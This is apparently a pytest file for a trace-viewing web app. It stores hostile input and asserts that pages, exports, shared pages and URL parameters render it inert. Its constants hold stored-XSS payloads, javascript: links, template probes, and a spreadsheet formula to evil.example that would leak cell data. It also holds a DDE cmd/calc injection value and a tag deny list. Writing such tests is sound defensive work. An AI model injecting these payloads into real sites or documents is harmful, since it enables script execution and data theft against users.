"""What applications stored can do nothing on any page."""

from __future__ import annotations

import csv
import io
import json
import re

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from markdown_it import MarkdownIt

from tests.extensions.web.conftest import segment, span
from tests.extensions.web.pages.browsing import Browser, Page

EVIL = (
    "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)><iframe srcdoc='<script>'>"
    "</textarea></title></pre>\"'><a href=javascript:alert(1)>a</a> {{ 7*7 }} {% include 'x' %} "
    "\u202eevil\u2066 \x00\x1b[31m"
)
MARKDOWN = (
    "[a](javascript:alert(1)) [b](data:text/html,<script>) ![c](https://evil.example/pixel.png) <b onclick=x>d</b>\n\n"
    "[e]: javascript:alert(1)\n[e] <javascript:alert(1)> [f](vbscript:x) [g](JaVaScRiPt:x) [h](&#106;avascript:x)\n\n"
    "```html\n<script>alert(1)</script>\n```\n\n" + ">" * 500 + " deep\n\n" + "*" * 3000
)
SVG = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
FORMULA = '=HYPERLINK("https://evil.example"&A1)'
ID = "</a><script>alert(1)</script>/../?x=1#y&\"'%00\u202e"
HIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_TAGS = {"script", "iframe", "object", "embed", "base", "style", "img", "video", "audio", "frame", "applet", "math"}


def _store(browser: Browser) -> None:
    parts = [
        {"type": "text", "content": EVIL + MARKDOWN},
        {"type": "reasoning", "content": EVIL},
        {"type": "tool_call", "id": EVIL, "name": EVIL, "arguments": {EVIL: [EVIL, {EVIL: None}]}},
        {"type": "blob", "modality": "image", "mime_type": EVIL, "content": "PHN2Zz4="},
        {"type": "uri", "modality": "image", "mime_type": "image/svg+xml", "uri": SVG},
        {"type": "uri", "modality": "image", "uri": "javascript:alert(1)"},
        {"type": EVIL, EVIL: EVIL},
    ]
    said = json.dumps([{"role": "user", "parts": parts}, {"role": EVIL, "parts": parts}])
    everywhere = {
        "user.id": EVIL,
        "langfuse.session.metadata.evil": EVIL,
        "langfuse.trace.tags": [EVIL],
        "gen_ai.operation.name": "chat",
        "gen_ai.request.model": EVIL,
        "gen_ai.agent.name": EVIL,
        "gen_ai.input.messages": said,
        "gen_ai.output.messages": said,
        "gen_ai.usage.input_tokens": 10,
        "input.value": EVIL,
        "metadata": json.dumps({EVIL: EVIL, "evil": FORMULA}),
        EVIL: EVIL,
    }
    tool = {
        "gen_ai.operation.name": "execute_tool",
        "gen_ai.tool.name": EVIL,
        "gen_ai.tool.call.arguments": EVIL,
        "gen_ai.tool.call.result": json.dumps({EVIL: MARKDOWN}),
    }
    browser.api.store(
        span(ID, 1, seconds=3, name=EVIL, attributes=everywhere, status="error", message=EVIL),
        span(ID, 1, number=2, name=EVIL, attributes=tool, status="error", message=EVIL),
        span(
            ID,
            3,
            start=60,
            name=FORMULA,
            status="error",
            message="@SUM(1)",
            attributes={"user.id": "+1+cmd|' /C calc'!A0"},
        ),
        span(ID, 2, start=90, attributes={"input.value": "x" * 1_200_000, "output.value": "[" * 100_000}),
        resource={"service.name": EVIL, "deployment.environment.name": EVIL},
    )
    path = f"/sessions/{segment(ID)}"
    assert browser.api.call("POST", f"{path}/comments", {"text": EVIL, "trace_id": f"{1:032x}"}).status == 201
    score = {"name": EVIL, "data_type": "TEXT", "value": EVIL, "comment": EVIL}
    assert browser.api.call("POST", f"{path}/scores", score).status == 201
    assert browser.api.call("PUT", f"{path}/labels/{segment('<script>label')}").status in (200, 201, 204)
    config = {"data_type": "CATEGORICAL", "description": EVIL, "categories": [{"value": 1, "label": EVIL}]}
    assert browser.api.call("PUT", f"/score-configs/{segment('<script>score')}", config).status in (200, 201)
    assert browser.api.call("PUT", f"/views/{segment('<script>view')}", {"query": "has:error"}).status in (
        200,
        201,
        204,
    )


def _check_inert(page: Page, path: str) -> None:
    scripts = [attributes for tag, attributes in page.tags if tag == "script"]
    assert all(set(one) == {"type", "src"} and one["src"].startswith("/static/") for one in scripts), path
    assert len(scripts) == ("<html" in page.html), path
    assert not [tag for tag, _ in page.tags if tag in _TAGS - {"script"}], path
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")], (path, tag)
        for name in ("href", "src", "action", "formaction"):
            link = attributes.get(name, "/")
            assert link.startswith(("/", "#", "https://", "http://", "mailto:")), (path, tag, link[:80])
            assert not link.startswith("//"), (path, tag, link[:80])
    assert not HIDDEN.search(page.text), (path, HIDDEN.search(page.text))


@pytest.fixture
def hostile(browser: Browser) -> Browser:
    _store(browser)
    return browser


def test_stored_content_is_inert_on_every_page(hostile: Browser) -> None:
    session = f"/sessions/{segment(ID)}"
    opened = f"{session}?span={1:032x}.{1001:016x}"
    paths = [
        *("/sessions", "/sessions?facets=1", "/users", f"/users/{segment(EVIL)}", "/models?window=all"),
        *("/errors?window=all", "/unassigned?window=all", "/shares", "/status", "/connect"),
        *(session, f"{session}?show=calls", f"{session}?show=tools", f"{session}?fragment=turns"),
        *(f"{session}?show=outline", f"{session}?show=waterfall", f"{session}?fragment=charts", f"{session}?at=error"),
        f"{session}?queue=has:error&as={segment(EVIL)}",
        *(opened, f"{opened}&fragment=span", f"{session}/span?span={1:032x}.{1001:016x}"),
        f"/compare?a={segment(ID)}&b={segment(ID)}",
        "/compare?query_a=has:error&query_b=-has:error",
        "/sessions?column=metadata.evil,tags,services,environments",
    ]
    for path in paths:
        page = hostile.get(path)
        assert page.status == 200, (path, page.text[-300:])
        _check_inert(page, path)
        assert len(page.html) < 3_000_000, path


def test_the_text_of_a_span_is_plain_and_no_page(hostile: Browser) -> None:
    made = hostile.api.call("POST", f"/sessions/{segment(ID)}/share", {})
    for path in (f"/sessions/{segment(ID)}", f"/share/{made.json['token']}"):
        page = hostile.get(f"{path}?span={1:032x}.{1001:016x}&fragment=text")
        assert page.status == 200
        assert page.headers["content-type"] == "text/plain; charset=utf-8"
        assert page.headers["x-content-type-options"] == "nosniff"
        assert "<script>alert(1)</script>" in page.html
        assert not HIDDEN.search(page.html)


def test_stored_content_is_inert_in_every_export(hostile: Browser) -> None:
    def export(format_: str) -> str:
        answer = hostile.api.call("GET", f"/sessions/{segment(ID)}/export", format=format_)
        assert answer.status == 200
        assert answer.headers["content-disposition"].startswith("attachment;")
        assert answer.headers["x-content-type-options"] == "nosniff"
        return answer.body.decode()

    csv.field_size_limit(10_000_000)
    rows = list(csv.DictReader(io.StringIO(export("csv"))))
    cells = [cell for row in rows for cell in row.values() if not re.fullmatch(r"-?[\d.]+", cell)]
    assert [cell[:40] for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert {f"'{FORMULA}"} <= {row["SpanName"] for row in rows}
    for format_ in ("jsonl", "messages"):
        assert all(isinstance(json.loads(line), dict) for line in export(format_).splitlines())
    parquet = hostile.api.call("GET", f"/sessions/{segment(ID)}/export", format="parquet")
    assert parquet.headers["content-disposition"].startswith("attachment;")
    assert parquet.headers["content-type"] == "application/vnd.apache.parquet"
    kept = pq.read_table(pa.BufferReader(parquet.body)).to_pylist()
    assert {FORMULA, EVIL} <= {row["SpanName"] for row in kept}, "a format without formulas keeps texts as they are"
    tokens = MarkdownIt("commonmark", {"html": True}).parse(export("md"))
    inner = [child for token in tokens for child in token.children or ()]
    assert {token.type for token in (*tokens, *inner)} & {"html_block", "html_inline", "link_open", "image"} == set()
    assert not any(HIDDEN.search(token.content) for token in tokens if token.type == "inline")


def test_stored_content_is_inert_on_a_published_page(hostile: Browser) -> None:
    made = hostile.api.call("POST", f"/sessions/{segment(ID)}/share", {})
    page = hostile.get(f"/share/{made.json['token']}")
    assert page.status == 200
    _check_inert(page, "share")
    local = [link for link in page.links() if not link.startswith(("#", "http", "/static/", "/share/"))]
    assert local == [], "nothing else is reached from a published session"
    assert not [tag for tag, _ in page.tags if tag == "form" and _.get("method") == "post"]


def test_what_a_visitor_writes_into_the_address_is_inert(browser: Browser) -> None:
    browser.api.store(span("a", 1))
    evil = segment(EVIL)
    for path in (
        f"/sessions?query={evil}",
        f"/sessions?query=%22{segment(EVIL.replace(chr(34), ''))}%22",
        f"/sessions?window={evil}&sort={evil}",
        f"/sessions?column=metadata.{evil}",
        f"/sessions/{evil}",
        f"/users/{evil}",
        f"/users?q={evil}",
        f"/models?window={evil}",
        f"/compare?a={evil}&b={evil}",
        f"/compare?query_a={evil}",
        f"/share/{evil}",
        f"/sessions/a?turn={evil}&before={evil}&show={evil}",
        f"/sessions/a?span={evil}",
    ):
        page = browser.get(path)
        assert page.status in (200, 400, 404), path
        _check_inert(page, path)
